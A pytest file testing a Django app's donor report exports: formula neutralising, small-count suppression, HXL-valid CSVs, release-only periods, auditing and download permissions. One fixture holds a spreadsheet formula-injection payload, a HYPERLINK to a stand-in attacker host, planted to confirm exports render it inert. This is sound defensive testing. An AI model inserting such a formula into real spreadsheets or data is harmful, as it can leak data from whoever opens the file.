"""Donor report exports: contents, suppression, formula neutralising, jobs and who may download."""

from __future__ import annotations

import csv
import io
import re
import zoneinfo
from datetime import date, datetime, timedelta

import hxl
import pytest
import time_machine
from auditlog.models import LogEntry
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone
from hxl.scripts import EXIT_OK, hxlvalidate_main
from openpyxl import load_workbook

from devtools.synthetic import synthetic_generate
from intake.tests.factories import ArrivalFactory
from registry.models import Department, Person, ReceptionCenter
from registry.roles import PROGRAMME_MANAGER
from registry.tests.factories import PersonFactory, UserFactory
from registry.throttling import UserLimit
from reporting import exports
from reporting.disaggregations import age_band_text
from reporting.disclosure import default_bound, disclosure_apply, disclosure_note, release_note
from reporting.exports import CSV_COLUMNS, EXPORT_DIMS, SUPPRESSED_MARK, neutralise
from reporting.indicators import ALL, INDICATORS, report_compute
from reporting.periods import fiscal_year, period_parse
from reporting.releases import PeriodNotReleased, released_table
from services.models import ServiceDelivery, ServiceType

pytestmark = pytest.mark.urls("reporting.tests.export_urls_for_tests")

PERIOD = "FY2025"  # computed live for a programme manager; never released in these tests
QUARTER = "FY2025-Q2"  # the quarter a donor's tests release (with its months)
QUARTER_PARTS = {"FY2025-Q2", "2025-01", "2025-02", "2025-03"}
FROZEN_ON = "2026-03-10 18:00:00+00:00"  # a day in FY2026-Q2, for the periods a manager is offered
EVIL = '=HYPERLINK("http://attacker.example/?leak","Click")'
K = 10
GUATEMALA = zoneinfo.ZoneInfo("America/Guatemala")


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.REPORTING_DISCLOSURE_K = K
    return tmp_path


@pytest.fixture
def dataset(db):
    """Synthetic returns over FY2025, one department of origin renamed to a formula."""
    synthetic_generate(persons=400, seed=11, today=date(2025, 12, 1))
    department_id = (
        Person.objects.filter(origin_department__isnull=False)
        .values_list("origin_department", flat=True)
        .first()
    )
    Department.objects.filter(pk=department_id).update(name=EVIL)
    return department_id


@pytest.fixture
def donor(db):
    user = UserFactory(username="donor_export")
    user.user_permissions.add(Permission.objects.get(codename="view_aggregates"))
    return user


@pytest.fixture
def other_donor(db):
    user = UserFactory(username="donor_other")
    user.user_permissions.add(Permission.objects.get(codename="view_aggregates"))
    return user


@pytest.fixture
def manager(center_a):
    user = UserFactory(username="manager_export")
    user.groups.add(Group.objects.get(name=PROGRAMME_MANAGER))
    from guardian.shortcuts import assign_perm

    assign_perm("registry.view_center_records", user, center_a)
    return user


@pytest.fixture
def reader(dataset):
    """A programme manager of every centre of the synthetic data: their exports are computed
    live (cell-key perturbed) for any period, which the tests of the files' layout rely on."""
    from guardian.shortcuts import assign_perm

    user = UserFactory(username="manager_everywhere")
    user.groups.add(Group.objects.get(name=PROGRAMME_MANAGER))
    for center in ReceptionCenter.objects.filter(active=True):
        assign_perm("registry.view_center_records", user, center)
    return user


@pytest.fixture
def all_centres(reader):
    scope = exports.export_center_scope(reader)
    assert scope == frozenset(
        ReceptionCenter.objects.filter(active=True).values_list("pk", flat=True)
    )
    return scope


@pytest.fixture
def returns(center_a, caseworker):
    """FY2025-Q2 at centre A, small enough for a quick release: 12 women and 3 men aged 30 who
    arrived in February 2025 (from Sololá, the men from La Paz, Honduras), and 11 deliveries of
    food (2 rations each) in March 2025. The men, their department, are counts from 1 to 9.
    (A release of the synthetic data takes minutes: its solver runs to its time limit.)"""
    when = datetime(2025, 2, 10, 9, 0, tzinfo=GUATEMALA)
    solola, la_paz = (Department.objects.get(iso_code=c) for c in ("GT-07", "HN-LP"))
    for n in range(15):
        man = n >= 12
        person = PersonFactory(
            sex=Person.Sex.MALE if man else Person.Sex.FEMALE,
            birth_date=date(1994, 6, 1),
            document_number=f"EX{n:06d}",
            origin_department=la_paz if man else solola,
        )
        ArrivalFactory(person=person, center=center_a, arrived_at=when, registered_by=caseworker)
    food = ServiceType.objects.get(code="food")
    for n in range(11):
        ServiceDelivery.objects.create(
            person=PersonFactory(document_number=f"EQ{n:06d}", birth_date=date(2000, 6, 1)),
            center=center_a,
            service_type=food,
            delivered_on=date(2025, 3, 3),
            quantity=2,
            recorded_by=caseworker,
        )


@pytest.fixture
def small_release(db, released):
    """QUARTER released (with its months) for one indicator and no data: enough for a donor's
    job to run, when a test is about the job and not about the figures."""
    return released(QUARTER, only=("received",))


def _build(user, kind: str, period: str = PERIOD) -> exports.ExportJob:
    job = exports.export_job_create(actor=user, kind=kind, period=period)
    return exports.export_job_run(job_id=job.id)


def _csv_rows(job: exports.ExportJob) -> list[list[str]]:
    return list(csv.reader(io.StringIO(job.file_path.read_text(encoding="utf-8-sig"))))


def _cell_texts(workbook) -> list:
    return [c for ws in workbook for row in ws.iter_rows(values_only=True) for c in row if c]


# --- contents -----------------------------------------------------------------------------------


def test_neutralise_prefixes_formula_starts_only():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("Huehuetenango") == "Huehuetenango"
    assert neutralise(-5) == -5
    assert neutralise("0-4") == "0-4"


def test_xlsx_has_a_sheet_per_indicator_and_notes(db, dataset, reader, all_centres):
    job = _build(reader, exports.XLSX)
    assert job.state == exports.DONE and job.progress == 100
    assert job.center_ids == sorted(all_centres)
    workbook = load_workbook(job.file_path, read_only=True)
    assert set(INDICATORS) <= set(workbook.sheetnames)
    notes_name = workbook.sheetnames[-1]
    notes = [c for row in workbook[notes_name].iter_rows(values_only=True) for c in row if c]
    text = " ".join(str(c) for c in notes)
    # Computed on request for the manager's centres: the cell-key rule, not a release's.
    assert "FY2025" in text and disclosure_note(K) in text
    assert release_note(K, default_bound()) not in text
    assert ", ".join(sorted(ReceptionCenter.objects.values_list("code", flat=True))) in text
    for code in INDICATORS:
        assert code in notes
    received = [list(r) for r in workbook["received"].iter_rows(values_only=True)]
    raw = report_compute(indicator="received", period=fiscal_year(2025), center_ids=all_centres)
    assert raw.total >= K
    shown = disclosure_apply(raw, k=K).total
    assert abs(shown - raw.total) <= default_bound()
    assert ["Total", shown] == received[3][:2]  # the headline, under name, definition, period


def test_xlsx_shows_the_perturbed_values_and_never_a_small_count(db, dataset, reader, all_centres):
    job = _build(reader, exports.XLSX)
    workbook = load_workbook(job.file_path, read_only=True)
    for code in INDICATORS:
        for row in workbook[code].iter_rows(values_only=True):
            for value in row[1:]:  # count and quantity, after the name (and the code)
                if isinstance(value, int) and not isinstance(value, bool):
                    assert value == 0 or value >= K, (code, row)
                assert value != SUPPRESSED_MARK  # perturbed, never withheld
    # The values are exactly those the cell-key method publishes for the manager's centres.
    table = disclosure_apply(
        report_compute(
            indicator="received",
            period=fiscal_year(2025),
            dims=("department",),
            center_ids=all_centres,
        ),
        k=K,
    )
    shown = [
        value
        for row in workbook["received"].iter_rows(values_only=True)
        for value in row[1:]  # after the name: the department's code, then its count
        if isinstance(value, int)
    ]
    published = [table.cells[(row, ALL)] for row in table.rows]
    assert published and all(value in shown for value in published)


def test_formula_in_a_name_is_neutralised_in_xlsx_and_csv(db, dataset, reader):
    job = _build(reader, exports.XLSX)
    workbook = load_workbook(job.file_path)  # not read-only: formulas would show as such
    labels = [c.value for ws in workbook for row in ws.iter_rows() for c in row if c.value]
    assert "'" + EVIL in labels
    assert EVIL not in labels
    assert not any(c.data_type == "f" for ws in workbook for row in ws.iter_rows() for c in row)

    job = _build(reader, exports.CSV)
    values = [v for row in _csv_rows(job) for v in row]
    assert "'" + EVIL in values and EVIL not in values


def test_csv_has_the_hxl_hashtag_row_and_only_safe_counts(db, dataset, reader):
    job = _build(reader, exports.CSV)
    rows = _csv_rows(job)
    assert rows[0] == [name for name, _tag in CSV_COLUMNS]
    assert rows[1] == [tag for _name, tag in CSV_COLUMNS]
    assert "#adm1+code" in rows[1] and "#date+start" in rows[1]
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[2:]]
    assert {r["indicator"] for r in body} == set(INDICATORS)
    for r in body:
        # Every value is published (perturbed, never withheld), and none from 1 to k-1.
        assert r["value"] != "" and r["suppressed"] != "yes"
        assert int(r["value"]) == 0 or int(r["value"]) >= K
        assert r["period_start"] == "2024-10-01" and r["period_end"] == "2025-09-30"


# --- a donor's exports: released periods only ---------------------------------------------------


def test_a_donor_cannot_export_a_period_not_released(db, donor, small_release, monkeypatch):
    monkeypatch.setitem(UserLimit.THROTTLE_RATES, exports.EXPORT_LIMIT_SCOPE, "1/hour")
    assert exports.export_center_scope(donor) is None  # a reader of all centres
    # Another quarter, the fiscal year of the released quarter, a month of another quarter, a
    # calendar year and a date range: none is released.
    for period in ("FY2025-Q3", "FY2025", "2024-12", "2025", "2025-01-01..2025-01-15"):
        with pytest.raises(PeriodNotReleased):
            exports.export_job_create(actor=donor, kind=exports.CSV, period=period)
        with pytest.raises(PeriodNotReleased):
            exports.report_build(period=period_parse(period), center_ids=None, k=K)
    assert list(exports.jobs_of(donor)) == []
    assert not list(exports.exports_root().glob("*/status.json"))
    assert not LogEntry.objects.filter(actor=donor).exists()
    # None of the refusals counted against the limit (one an hour): a released month, released
    # with its quarter, is still granted; and the limit does apply.
    job = exports.export_job_create(actor=donor, kind=exports.CSV, period="2025-02")
    assert job.period == "2025-02" and job.center_ids is None
    with pytest.raises(exports.ExportLimitReached):
        exports.export_job_create(actor=donor, kind=exports.CSV, period=QUARTER)


def test_a_donors_export_holds_the_released_figures(db, returns, donor, released):
    release = released(QUARTER, only=("received", "services_delivered"))
    offered = {"received", "services_delivered"}
    quarter = period_parse(QUARTER)
    job = _build(donor, exports.CSV, QUARTER)
    assert job.state == exports.DONE, job.error
    rows = _csv_rows(job)
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[2:]]
    assert {r["indicator"] for r in body} == offered  # the indicators released
    assert {(r["period"], r["period_start"], r["period_end"]) for r in body} == {
        (QUARTER, "2025-01-01", "2025-03-31")
    }
    for r in body:
        for column in ("value", "quantity"):
            if r[column] != "":
                assert int(r[column]) == 0 or int(r[column]) >= K, r  # never a count 1 to 9
        assert r["suppressed"] != "yes"

    # Every figure is the release's; the release's are near the truth and add up.
    column = {"sex": "sex", "age_band": "age_band", "department": "department_code"}
    for code in offered:
        mine = [r for r in body if r["indicator"] == code]
        [total] = [r for r in mine if r["disaggregation"] == "total"]
        headline = released_table(period=quarter, indicator=code, dims=())
        assert int(total["value"]) == headline.total >= K
        if headline.quantity_total is not None:
            assert int(total["quantity"]) == headline.quantity_total
        for dim in EXPORT_DIMS:
            table = released_table(period=quarter, indicator=code, dims=(dim,))
            got = {r[column[dim]]: r for r in mine if r["disaggregation"] == dim}
            key = age_band_text if dim == "age_band" else str
            expected = {key(row): table.cells[(row, ALL)] for row in table.rows}
            assert {k: int(r["value"]) for k, r in got.items()} == expected, (code, dim)
            if table.quantities is not None:
                quantities = {key(row): table.quantities[(row, ALL)] for row in table.rows}
                assert {k: int(r["quantity"]) for k, r in got.items()} == quantities
            # Each person counts in one cell of these: the cells add up to the total.
            assert sum(expected.values()) == headline.total, (code, dim)
    received = {
        (r["disaggregation"], r["sex"] or r["department_code"]): int(r["value"])
        for r in body
        if r["indicator"] == "received"
    }
    assert abs(received[("total", "")] - 15) <= release.bound
    assert abs(received[("sex", "female")] - 12) <= release.bound
    assert received[("sex", "male")] in (0, *range(K, 3 + release.bound + 1))  # 3 men
    assert received[("department", "HN-LP")] in (0, *range(K, 3 + release.bound + 1))

    # The workbook: the same figures, under the release's rule and dated as the release.
    workbook = load_workbook(_build(donor, exports.XLSX, QUARTER).file_path, read_only=True)
    assert set(workbook.sheetnames[:-1]) == offered
    sheet = [list(r) for r in workbook["received"].iter_rows(values_only=True)]
    assert ["Total", received[("total", "")]] == sheet[3][:2]
    for code in offered:
        for row in workbook[code].iter_rows(values_only=True):
            for value in row[1:]:
                if isinstance(value, int) and not isinstance(value, bool):
                    assert value == 0 or value >= K, (code, row)
    notes = _cell_texts([workbook[workbook.sheetnames[-1]]])
    assert release_note(release.k, release.bound) in notes
    assert disclosure_note(K) not in notes
    assert timezone.localtime(release.created_at).replace(tzinfo=None) in notes  # data as of

    # A released period never changes: after a correction of the records, the same bytes.
    first = job.file_path.read_bytes()
    live = report_compute(indicator="received", period=quarter, dims=("sex",)).cells
    Person.objects.filter(sex=Person.Sex.MALE).update(sex=Person.Sex.FEMALE)
    assert report_compute(indicator="received", period=quarter, dims=("sex",)).cells != live
    assert _build(donor, exports.CSV, QUARTER).file_path.read_bytes() == first


# --- files that open correctly: HXL, encoding, types in spreadsheets ----------------------------

# HXL 1.1 core hashtags the CSV may use; any other must be an extension (#x_...).
HXL_CORE = {"#indicator", "#date", "#adm1", "#country", "#meta", "#org", "#reached", "#affected"}
# What a spreadsheet (Excel, LibreOffice) turns into a number or a date when it opens a CSV:
# digits with a sign in front or behind ("60+" becomes 60), day-month shapes ("5-11", "12-17").
SPREADSHEET_NUMBER = re.compile(r"^\s*[+-]?\d+([.,]\d+)?\s*[+-]?\s*$")
SPREADSHEET_DATE = re.compile(r"^\s*\d{1,4}\s*[-/.]\s*\d{1,4}(\s*[-/.]\s*\d{1,4})?\s*$")


def _csv_file(period_text: str, directory, center_ids: frozenset[int]) -> tuple:
    period = period_parse(period_text)
    reports = exports.report_build(period=period, center_ids=center_ids, k=K)
    path = directory / "export.csv"
    exports.csv_write(reports, path=path, period=period)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    return path, rows


@pytest.mark.parametrize(
    "period",
    ["FY2025", "FY2025-Q2", "2025-03", "2025", "2024-11-15..2025-02-14"],
    ids=["fiscal_year", "fiscal_quarter", "month", "calendar_year", "date_range"],
)
def test_csv_of_every_period_kind_passes_the_hxl_validator(db, dataset, all_centres, media, period):
    # A programme manager's export (live figures): calendar years and date ranges are theirs.
    path, rows = _csv_file(period, media, all_centres)
    # libhxl's `hxlvalidate` command (its default core schema), run in process.
    output = io.StringIO()
    status = hxlvalidate_main(["--error-level", "warning", str(path)], stdout=output)
    assert status == EXIT_OK, output.getvalue()[:2000]
    assert "0 error(s), 0 warnings" in output.getvalue()
    # Every indicator and every disaggregation the export offers is in the file validated.
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[2:]]
    offered = {(r["indicator"], r["disaggregation"]) for r in body}
    assert {(code, "sex") for code in INDICATORS} <= offered
    assert {(code, "age_band") for code in INDICATORS} <= offered
    assert {r["disaggregation"] for r in body} == {"total", *EXPORT_DIMS}
    parsed = period_parse(period)
    assert {(r["period_start"], r["period_end"]) for r in body} == {
        (parsed.start.isoformat(), parsed.end.isoformat())
    }


def test_csv_uses_hxl_core_hashtags_or_extensions():
    for _name, tag in CSV_COLUMNS:
        column = hxl.model.Column.parse(tag)
        assert column.tag in HXL_CORE or column.tag.startswith("#x_"), tag
        assert not (column.tag == "#date" and "period" in column.attributes), tag
    tags = [tag for _name, tag in CSV_COLUMNS]
    assert "#date+start" in tags and "#date+end" in tags


def test_csv_has_a_byte_order_mark_and_reads_back_accents(db, dataset, reader):
    solola = Department.objects.get(iso_code="GT-07")
    assert solola.name == "Sololá"
    Person.objects.filter(
        pk__in=Person.objects.filter(arrivals__isnull=False).values("pk")[:3]
    ).update(origin_department=solola)
    job = _build(reader, exports.CSV)
    data = job.file_path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "indicator"  # no stray mark in the first header
    assert "Sololá" in [v for row in rows for v in row]


def test_age_band_60_plus_stays_text_in_csv_and_xlsx(db, dataset, reader):
    job = _build(reader, exports.CSV)
    rows = _csv_rows(job)
    bands = {r[rows[0].index("age_band")] for r in rows[2:] if r[rows[0].index("age_band")]}
    assert any(band.startswith("60+") for band in bands), bands
    for band in bands:
        assert not SPREADSHEET_NUMBER.match(band), band
        assert not SPREADSHEET_DATE.match(band), band

    job = _build(reader, exports.XLSX)
    sheet = load_workbook(job.file_path)["received"]
    cells = [row[0] for row in sheet.iter_rows() if row[0].value == "60+"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_xlsx_shows_department_codes_beside_names(db, dataset, reader):
    """La Paz is a department of Honduras (HN-LP) and of El Salvador (SV-PA)."""
    la_paz = {d.iso_code: d for d in Department.objects.filter(iso_code__in=["HN-LP", "SV-PA"])}
    assert {d.name for d in la_paz.values()} == {"La Paz"}
    people = list(Person.objects.filter(arrivals__isnull=False).values_list("pk", flat=True)[:40])
    Person.objects.filter(pk__in=people[:20]).update(origin_department=la_paz["HN-LP"])
    Person.objects.filter(pk__in=people[20:]).update(origin_department=la_paz["SV-PA"])
    job = _build(reader, exports.XLSX)
    rows = [list(r) for r in load_workbook(job.file_path)["received"].iter_rows(values_only=True)]
    beside = {tuple(row[i - 1 : i + 1]) for row in rows for i, v in enumerate(row) if v == "La Paz"}
    assert beside == {("HN-LP", "La Paz"), ("SV-PA", "La Paz")}


def test_a_programme_manager_exports_only_their_centres(db, manager, center_a):
    job = exports.export_job_create(actor=manager, kind=exports.CSV, period=PERIOD)
    assert job.center_ids == [center_a.pk]
    # Their figures are computed on request: no release needed, calendar years and ranges too.
    for period in ("2025", "2024-11-15..2025-02-14"):
        job = exports.export_job_create(actor=manager, kind=exports.CSV, period=period)
        assert job.period == period and job.center_ids == [center_a.pk]


def test_every_export_is_audited(db, donor, small_release):
    job = exports.export_job_create(actor=donor, kind=exports.XLSX, period=QUARTER)
    entry = LogEntry.objects.get(actor=donor, action=LogEntry.Action.ACCESS)
    assert entry.changes == {"export": ["xlsx", QUARTER]}
    assert entry.additional_data["job"] == job.id
    assert entry.additional_data["center_ids"] is None  # all centres: a donor


# --- pages --------------------------------------------------------------------------------------


def _options(response) -> list[str]:
    return re.findall(r'<option value="([^"]*)"', response.content.decode())


def test_start_runs_the_export_in_process_without_a_broker(
    db, client, donor, small_release, eager, django_capture_on_commit_callbacks
):
    client.force_login(donor)
    assert client.get(reverse("reporting_exports:export_start")).status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("reporting_exports:export_start"), {"period": QUARTER, "kind": "xlsx"}
        )
    assert response.status_code == 302
    job_id = response.url.rstrip("/").rsplit("/", 1)[-1]
    status = client.get(response.url)
    assert status.status_code == 200
    assert b"<progress" in status.content
    assert b'http-equiv="refresh"' not in status.content  # finished: no more refreshing
    assert exports.export_job_load(job_id).state == exports.DONE
    download = client.get(reverse("reporting_exports:export_download", args=[job_id]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    body = b"".join(download.streaming_content)
    assert "received" in load_workbook(io.BytesIO(body), read_only=True).sheetnames
    audited = [e.changes for e in LogEntry.objects.filter(actor=donor).order_by("pk")]
    assert audited == [{"export": ["xlsx", QUARTER]}, {"export_download": ["xlsx", QUARTER]}]


def test_the_form_offers_a_donor_the_released_periods_only(db, client, donor, small_release):
    client.force_login(donor)
    start = reverse("reporting_exports:export_start")
    page = client.get(start)
    assert page.status_code == 200
    assert set(_options(page)) == QUARTER_PARTS
    assert page.context["form"].fields["period"].initial == QUARTER  # the newest quarter

    # A period not offered, typed in: a form error, and nothing started.
    response = client.post(start, {"period": "FY2025-Q3", "kind": "csv"})
    assert response.status_code == 200
    assert response.context["form"].errors["period"]
    assert list(exports.jobs_of(donor)) == []


def test_a_period_not_released_is_refused_even_if_offered(
    db, client, donor, small_release, monkeypatch
):
    """Should a form offer an unreleased period (a stale list), creating the job refuses it."""
    monkeypatch.setattr(
        "reporting.export_forms.period_choices_for",
        lambda user, today: [(QUARTER, QUARTER), ("FY2025-Q3", "FY2025-Q3")],
    )
    client.force_login(donor)
    response = client.post(
        reverse("reporting_exports:export_start"),
        {"period": "FY2025-Q3", "kind": "csv"},
        HTTP_ACCEPT_LANGUAGE="es",
    )
    assert response.status_code == 400
    assert response.context["form"].errors["period"]
    assert "todavía no se ha publicado" in response.content.decode()
    assert list(exports.jobs_of(donor)) == []
    assert not LogEntry.objects.filter(actor=donor).exists()


def test_the_form_offers_a_manager_every_whole_period(db, client, manager, center_a):
    start = reverse("reporting_exports:export_start")
    with time_machine.travel(FROZEN_ON, tick=False):
        client.force_login(manager)
        page = client.get(start)
        response = client.post(start, {"period": "FY2025", "kind": "csv"})
        jobs = list(exports.jobs_of(manager))  # they expire a day after the frozen clock
    # Nothing is released: a manager's figures are computed for their centres on request.
    options = set(_options(page))
    assert {"FY2026", "FY2025", "FY2024", "FY2026-Q2", "FY2025-Q4", "2026-03"} <= options
    assert "FY2026-Q3" not in options and "2026-04" not in options  # not started yet
    assert response.status_code == 302
    [job] = jobs
    assert job.period == "FY2025" and job.center_ids == [center_a.pk]


def test_a_bad_period_is_a_form_error(db, client, donor, manager, small_release):
    for user in (donor, manager):
        client.force_login(user)
        response = client.post(
            reverse("reporting_exports:export_start"),
            {"period": "2025-01-01..2025-01-02", "kind": "csv"},
        )
        assert response.status_code == 200
        assert response.context["form"].errors["period"]
        assert list(exports.jobs_of(user)) == []


def test_pending_status_page_refreshes_without_javascript(db, client, manager):
    job = exports.export_job_create(actor=manager, kind=exports.XLSX, period=PERIOD)
    client.force_login(manager)
    page = client.get(reverse("reporting_exports:export_status", args=[job.id]))
    assert page.status_code == 200
    html = page.content.decode()
    assert 'http-equiv="refresh"' in html and 'hx-trigger="every 2s"' in html
    assert '<progress max="100" value="0">' in html
    assert reverse("reporting_exports:export_status", args=[job.id]) in html  # manual refresh
    not_yet = client.get(reverse("reporting_exports:export_download", args=[job.id]))
    assert not_yet.status_code == 404


def test_only_the_creator_sees_or_downloads_the_export(
    db, client, donor, other_donor, manager, small_release
):
    job = _build(donor, exports.CSV, QUARTER)
    assert job.state == exports.DONE, job.error
    status_url = reverse("reporting_exports:export_status", args=[job.id])
    download_url = reverse("reporting_exports:export_download", args=[job.id])
    for outsider in (other_donor, manager):
        client.force_login(outsider)
        assert client.get(status_url).status_code == 404
        assert client.get(download_url).status_code == 404
    client.logout()
    assert client.get(download_url).status_code == 302  # to the login page
    client.force_login(donor)
    assert client.get(download_url).status_code == 200


def test_users_without_the_right_cannot_start_exports(db, client, caseworker):
    client.force_login(caseworker)
    response = client.post(
        reverse("reporting_exports:export_start"), {"period": PERIOD, "kind": "csv"}
    )
    assert response.status_code == 403
    assert not list(exports.exports_root().glob("*/status.json"))


def test_an_expired_export_is_gone(db, client, donor, media, small_release):
    job = _build(donor, exports.CSV, QUARTER)
    assert job.state == exports.DONE, job.error
    job.expires_at = (timezone.now() - timedelta(minutes=1)).isoformat()
    exports.export_job_save(job)
    client.force_login(donor)
    response = client.get(reverse("reporting_exports:export_download", args=[job.id]))
    assert response.status_code == 404
    assert "reporting/export_expired.html" in [t.name for t in response.templates]
    assert client.get(reverse("reporting_exports:export_status", args=[job.id])).status_code == 404

    fresh = exports.export_job_create(actor=donor, kind=exports.CSV, period=QUARTER)
    assert exports.exports_purge_expired() == 1
    assert not job.directory.exists() and fresh.directory.exists()


def test_exports_past_the_users_limit_are_refused(
    db, client, donor, other_donor, small_release, monkeypatch
):
    monkeypatch.setitem(UserLimit.THROTTLE_RATES, exports.EXPORT_LIMIT_SCOPE, "2/hour")
    start = reverse("reporting_exports:export_start")
    client.force_login(donor)
    asked = {"period": QUARTER, "kind": "csv"}
    answers = [client.post(start, asked, HTTP_ACCEPT_LANGUAGE="en") for _ in range(3)]

    assert [a.status_code for a in answers] == [302, 302, 429]
    assert "You have prepared as many exports as allowed for now." in answers[2].content.decode()
    assert "about 60 minutes" in answers[2].content.decode()
    assert len(list(exports.jobs_of(donor))) == 2, "the refused export was not started"
    client.force_login(other_donor)
    assert client.post(start, asked).status_code == 302, "the limit is per user"
